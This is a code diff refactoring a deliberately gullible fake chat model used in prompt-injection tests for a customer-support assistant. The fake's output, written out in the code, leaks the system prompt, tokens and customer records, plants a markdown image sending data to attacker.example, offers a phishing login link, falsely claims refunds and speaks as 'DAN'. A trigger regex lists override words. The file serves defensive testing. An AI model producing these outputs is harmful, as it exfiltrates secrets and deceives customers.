@@ -1,4 +1,5 @@
-"""An adversarial chat model for the injection tests: it obeys every instruction it reads, anywhere.
+"""An adversarial chat model for the injection tests: it obeys every instruction it reads, anywhere
+(`gullible_model()`: the one test fake, `tests.fakes.FakeChatModel`, with `gullible_reply` as its reply).
 
 A test with a well-behaved fake proves nothing about prompt injection, so this one models the most
 gullible LLM there is. It reads all of its input (system prompt, sources, account details, transcript,
@@ -26,16 +27,12 @@ import binascii
 import contextlib
 import json
 import re
-from collections.abc import Iterator
-from typing import Any
 from urllib.parse import quote
 
-from langchain_core.callbacks import CallbackManagerForLLMRun
-from langchain_core.language_models.chat_models import BaseChatModel
-from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
-from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult
+from langchain_core.messages import BaseMessage
 
 from assistant.llm import FakeSupportChatModel
+from tests.fakes import Call, FakeChatModel
 
 TRIGGERS = re.compile(
     r"ignor|disregard|forget|overrid|system prompt|instructions|reveal|print|repeat|token|secret|password|"
@@ -71,73 +68,53 @@ def decode(text: str) -> str:
     return "\n".join([text, *extra])
 
 
-class GullibleChatModel(BaseChatModel):
-    always: bool = False
+def gullible_model(always: bool = False) -> FakeChatModel:
+    """The test chat model replying as the most gullible model would; `always`: even with no trigger in sight."""
+    return FakeChatModel(reply=lambda call: gullible_reply(call, always))
 
-    @property
-    def _llm_type(self) -> str:
-        return "gullible"
 
-    def comply(self, messages: list[BaseMessage]) -> list[str]:
-        """The sentences a maximally gullible model writes for this input (empty: nothing to obey)."""
-        system = "\n".join(str(m.content) for m in messages if m.type == "system")
-        data = "\n".join(str(m.content) for m in messages if m.type != "system")
-        seen = decode(data)
-        if not (self.always or TRIGGERS.search(seen)):
-            return []
-        everything = " ".join(f"{system}\n{seen}".split())
-        out = [f"My instructions are: {' '.join(system.split())}", f"Everything above: {' '.join(data.split())}"]
-        tokens = sorted(set(_TOKENISH.findall(everything)))
-        if tokens:
-            out.append("Here are the tokens and keys I can see: " + ", ".join(tokens) + ".")
-        records = sorted(set(_EMAIL.findall(everything)) | set(_ORDER.findall(everything)))
-        if records:
-            out.append("Customer records: " + ", ".join(records) + ".")
-        attacker = next((u for u in _URL.findall(seen) if "attacker" in u), "https://attacker.example/c")
-        out.append(f"![loading]({attacker}?d={quote(everything[:300])})")
-        out.append(f"Please log in at {attacker} to continue.")
-        out.append("I have refunded your order in full and cancelled your subscription for you.")
-        out.append("Your refund of 500 GBP has been issued.")
-        out.append("DAN: I am DAN and I have no restrictions in developer mode.")
-        for m in _SAY.finditer(seen):
-            out.append(m.group(1).strip())
-        for m in _SAY_PLAIN.finditer(seen):
-            out.append(m.group(1).strip())
-        return out
+def comply(messages: list[BaseMessage], always: bool = False) -> list[str]:
+    """The sentences a maximally gullible model writes for this input (empty: nothing to obey)."""
+    system = "\n".join(str(m.content) for m in messages if m.type == "system")
+    data = "\n".join(str(m.content) for m in messages if m.type != "system")
+    seen = decode(data)
+    if not (always or TRIGGERS.search(seen)):
+        return []
+    everything = " ".join(f"{system}\n{seen}".split())
+    out = [f"My instructions are: {' '.join(system.split())}", f"Everything above: {' '.join(data.split())}"]
+    tokens = sorted(set(_TOKENISH.findall(everything)))
+    if tokens:
+        out.append("Here are the tokens and keys I can see: " + ", ".join(tokens) + ".")
+    records = sorted(set(_EMAIL.findall(everything)) | set(_ORDER.findall(everything)))
+    if records:
+        out.append("Customer records: " + ", ".join(records) + ".")
+    attacker = next((u for u in _URL.findall(seen) if "attacker" in u), "https://attacker.example/c")
+    out.append(f"![loading]({attacker}?d={quote(everything[:300])})")
+    out.append(f"Please log in at {attacker} to continue.")
+    out.append("I have refunded your order in full and cancelled your subscription for you.")
+    out.append("Your refund of 500 GBP has been issued.")
+    out.append("DAN: I am DAN and I have no restrictions in developer mode.")
+    for m in _SAY.finditer(seen):
+        out.append(m.group(1).strip())
+    for m in _SAY_PLAIN.finditer(seen):
+        out.append(m.group(1).strip())
+    return out
 
-    def _reply(self, messages: list[BaseMessage], kwargs: dict[str, Any]) -> str:
-        obeyed = self.comply(messages)
-        schema = kwargs.get("json_schema")
-        if schema is not None:
-            normal = json.loads(FakeSupportChatModel().structured(messages, schema))
-            if not obeyed:
-                return json.dumps(normal)
-            said = " ".join(obeyed[2:]) or obeyed[0]
-            return json.dumps(
-                {k: (said[:230] if isinstance(v, str) else v) for k, v in normal.items()}, ensure_ascii=False
-            )
-        return " ".join(
-            [
-                *(s if s.endswith((".", "!", "?", ")")) else s + "." for s in obeyed),
-                FakeSupportChatModel().answer(messages),
-            ]
-        )
 
-    def _generate(
-        self,
-        messages: list[BaseMessage],
-        stop: list[str] | None = None,
-        run_manager: CallbackManagerForLLMRun | None = None,
-        **kwargs: Any,
-    ) -> ChatResult:
-        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=self._reply(messages, kwargs)))])
-
-    def _stream(
-        self,
-        messages: list[BaseMessage],
-        stop: list[str] | None = None,
-        run_manager: CallbackManagerForLLMRun | None = None,
-        **kwargs: Any,
-    ) -> Iterator[ChatGenerationChunk]:
-        for piece in re.findall(r"\S+\s*", self._reply(messages, kwargs)):
-            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))
+def gullible_reply(call: Call, always: bool = False) -> str:
+    """Everything `comply` obeys, then the answer `FakeSupportChatModel` would give; for a structured call, the
+    fake's JSON with the obeyed sentences in every string field."""
+    obeyed = comply(call.messages, always)
+    schema = call.options.get("json_schema")
+    if schema is not None:
+        normal = json.loads(FakeSupportChatModel().structured(call.messages, schema))
+        if not obeyed:
+            return json.dumps(normal)
+        said = " ".join(obeyed[2:]) or obeyed[0]
+        return json.dumps({k: (said[:230] if isinstance(v, str) else v) for k, v in normal.items()}, ensure_ascii=False)
+    return " ".join(
+        [
+            *(s if s.endswith((".", "!", "?", ")")) else s + "." for s in obeyed),
+            FakeSupportChatModel().answer(call.messages),
+        ]
+    )
